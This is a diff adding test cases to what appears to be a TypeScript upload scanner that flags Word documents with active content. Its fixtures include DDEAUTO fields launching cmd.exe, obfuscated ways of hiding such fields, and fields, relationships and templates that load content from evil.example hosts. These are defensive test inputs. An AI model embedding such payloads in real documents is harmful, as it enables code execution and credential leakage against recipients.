@@ -31,6 +31,25 @@ const doc = (...storages: string[]) =>
     Buffer.alloc(600),
     ...['Root Entry', ...storages].map((name) => Buffer.from(`${name}\0`.padEnd(32, '\0'), 'utf16le')),
   ]);
+const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
+const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
+const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
+/** A field whose text stands in one run after the other. */
+const field = (...texts: string[]) =>
+  `${begin}${texts.map(run).join('<w:proofErr w:type="spellStart"/>')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>${end}`;
+const word = (body: string) =>
+  `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="x"><w:p>${body}</w:p></w:document>`;
+const withText = (text: string, encoding: BufferEncoding) =>
+  Buffer.concat([doc('WordDocument', '1Table'), Buffer.from(text, encoding)]);
+const withTemplate = (name: string) =>
+  Buffer.concat([
+    doc('WordDocument'),
+    Buffer.from('FFFF120000000000', 'hex'),
+    Buffer.from([name.length, 0]),
+    Buffer.from(name, 'utf16le'),
+  ]);
+type Case = [name: string, bytes: Uint8Array, code: string];
+const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
 const inspected = (bytes: Uint8Array, purpose: FilePurpose = 'document') => inspectUpload({ bytes, purpose });
 
 describe('a letter', () => {
@@ -51,14 +70,39 @@ describe('a letter', () => {
       ),
       'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
     ],
+    [
+      'a DOCX with pages, dates, headings and links',
+      docx({
+        'word/document.xml': word(
+          [
+            ' PAGE   \\* MERGEFORMAT ',
+            ' DATE \\@ "M/d/yyyy" ',
+            ' TOC \\o "1-3" \\h \\z \\u ',
+            'HYPERLINK "https://bank.example/profile:1"',
+            ' =SUM(ABOVE) ',
+            'FORMTEXT',
+          ]
+            .map((text) => field(text))
+            .join('') +
+            `${begin}${run(' HYPERLINK "mailto:')}${field(' AUTHOR ')}${run('" ')}${end}<w:fldSimple w:instr=" NUMPAGES "/>`,
+        ),
+        'word/header1.xml': word(field(' PAGEREF _Toc1 ')),
+        'docProps/app.xml': '<Properties><Company>Smith &amp; Sons</Company></Properties>',
+        'customXml/item1.xml': '<?mso-contentType?><a><![CDATA[x]]></a>',
+      }),
+      docxType,
+    ],
     ['a DOC', doc('WordDocument', '1Table'), 'application/msword'],
+    ['a DOC with the page’s number', withText('\x13 PAGE \x14 1 \x15', 'latin1'), 'application/msword'],
+    ['a DOC with a template of its own machine', withTemplate('C:\\Templates\\Normal.dot'), 'application/msword'],
+    ['a text of Notepad’s “Unicode”', Buffer.from('\ufeffDear Carla,\r\nпривет 你好\r\n', 'utf16le'), 'text/plain'],
     ['a text', Buffer.from('Dear Carla,\r\n\tyour card was closed.\r\n'), 'text/plain'],
     ['a text of an older editor', Buffer.from([0x53, 0xe3, 0x6f, 0x20, 0x50, 0x61, 0x75, 0x6c, 0x6f]), 'text/plain'],
   ])('%s is kept as it came', async (_, bytes, mediaType) => {
     expect(await inspected(bytes)).toMatchObject({ kind: 'inspected', mediaType, content: undefined });
   });
 
-  test.each([
+  test.each<Case>([
     ['a DOCX with macros', docx({ 'word/vbaProject.bin': 'x' }), 'activeDocument'],
     ['a DOCX with a control', docx({ 'word/activeX/activeX1.xml': 'x' }), 'activeDocument'],
     ['a DOCX with another file inside', docx({ 'word/embeddings/oleObject1.bin': 'x' }), 'activeDocument'],
@@ -143,6 +187,78 @@ describe('a letter', () => {
       docx({ 'word/_rels/more.xml.rels': ' '.repeat(5_000_000) }),
       'brokenDocument',
     ],
+    ...(
+      [
+        ['starts a program', field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')],
+        ['starts one by a field over several runs', field(' DDE', 'AUTO cmd "/k calc" ')],
+        ['writes a field’s name in numbers', field(' &#68;DE cmd ')],
+        ['makes a field’s name by another field', `${begin}${run('D')}${field(' QUOTE 68 69 ')}${run(' cmd ')}${end}`],
+        ['loads a picture', field(' INCLUDEPICTURE "http://evil.example/i.png" \\d ')],
+        ['loads a text', field(' INCLUDETEXT "\\\\\\\\evil.example\\\\x.docx" ')],
+        ['loads a sheet', field(' LINK Excel.Sheet.8 "\\\\\\\\evil\\\\x.xls" ')],
+        ['asks a database', field(' DATABASE \\d "http://evil.example/x" ')],
+        ['has a simple field', '<w:fldSimple w:instr=" DDEAUTO cmd "><w:r/></w:fldSimple>'],
+        ['has a field that nobody knows', field(' FROBNICATE x ')],
+        ['has a link to a server of files', field(' HYPERLINK "file://evil.example/x" ')],
+        ['has a field that was deleted', field(' DDEAUTO cmd ').replaceAll('instrText', 'delInstrText')],
+        ['has a field without an end', `${begin}${run(' DDEAUTO cmd ')}`],
+        ['has another document in it', '<w:altChunk r:id="r"/>'],
+        ['has an object in it', '<w:object><o:OLEObject r:id="r"/></w:object>'],
+        ['merges mails from a database', '<w:mailMerge><w:query w:val="select 1"/></w:mailMerge>'],
+        ['loads a picture of an older kind', '<v:imagedata src="http://evil.example/i"/>'],
+        ['hides a field in literal text', `${begin}${run('<![CDATA[ DDEAUTO cmd ]]>')}${end}`],
+      ] as const
+    ).flatMap(([does, body]) =>
+      ['document', 'header1', 'footer2', 'footnotes', 'endnotes', 'comments', 'settings', 'glossary/document'].map(
+        (part): Case => [`a DOCX that ${does} (${part})`, docx({ [`word/${part}.xml`]: word(body) }), 'activeDocument'],
+      ),
+    ),
+    ...['aFChunk', 'oleObject', 'package', 'subDocument', 'attachedTemplate', 'control', 'frame'].map((type): Case => [
+      `a DOCX with a relationship ${type}`,
+      docx({}, relation(type, 'part.xml')),
+      'activeDocument',
+    ]),
+    ...['image', 'oleObject', 'video', 'settings', 'customXml'].map((type): Case => [
+      `a DOCX whose ${type} is elsewhere`,
+      docx({}, relation(type, 'http://evil.example/x', true)),
+      'activeDocument',
+    ]),
+    [
+      'a DOCX whose picture is elsewhere without saying so',
+      docx({}, relation('image', '//evil.example/i')),
+      'activeDocument',
+    ],
+    ['a DOCX with a link to a file', docx({}, relation('hyperlink', 'file://evil.example/x', true)), 'activeDocument'],
+    ['a DOCX with a text of another format inside', docx({ 'word/chunk.rtf': '{\\rtf1}' }), 'activeDocument'],
+    [
+      'a DOCX whose letter is called like a picture',
+      docx({
+        '[Content_Types].xml':
+          '<Types><Override PartName="/word/a.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+        'word/a.png': word(field('DDEAUTO cmd')),
+      }),
+      'brokenDocument',
+    ],
+    [
+      'a DOCX whose letter is called like a form’s data',
+      docx({
+        '[Content_Types].xml':
+          '<Types><Override PartName="/customXml/item1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+        'customXml/item1.xml': word(field('DDEAUTO cmd')),
+      }),
+      'activeDocument',
+    ],
+    ['a DOC that starts a program', withText('\x13 DDEAUTO cmd \x15', 'latin1'), 'activeDocument'],
+    ['a DOC that starts one, in two bytes a letter', withText('x\x13DDE cmd\x15', 'utf16le'), 'activeDocument'],
+    [
+      'a DOC that loads a picture',
+      withText('\x13 INCLUDEPICTURE "http://evil.example" \x15', 'utf16le'),
+      'activeDocument',
+    ],
+    ['a DOC whose template is elsewhere', withTemplate('http://evil.example/t'), 'activeDocument'],
+    ['an RTF', Buffer.from('{\\rtf1 {\\object\\objautlink}}'), 'unsupportedType'],
+    ['an RTF that begins later', Buffer.from('\ufeff {\\rt1 {\\object}}'), 'unsupportedType'],
+    ['a page of two bytes a letter', Buffer.from('\ufeff<html><script>1</script>', 'utf16le'), 'unsupportedType'],
     ['a DOC with macros', doc('WordDocument', 'Macros', '_VBA_PROJECT'), 'activeDocument'],
     ['a DOC with another file inside', doc('WordDocument', 'ObjectPool'), 'activeDocument'],
     ['an Excel sheet', doc('Workbook'), 'brokenDocument'],
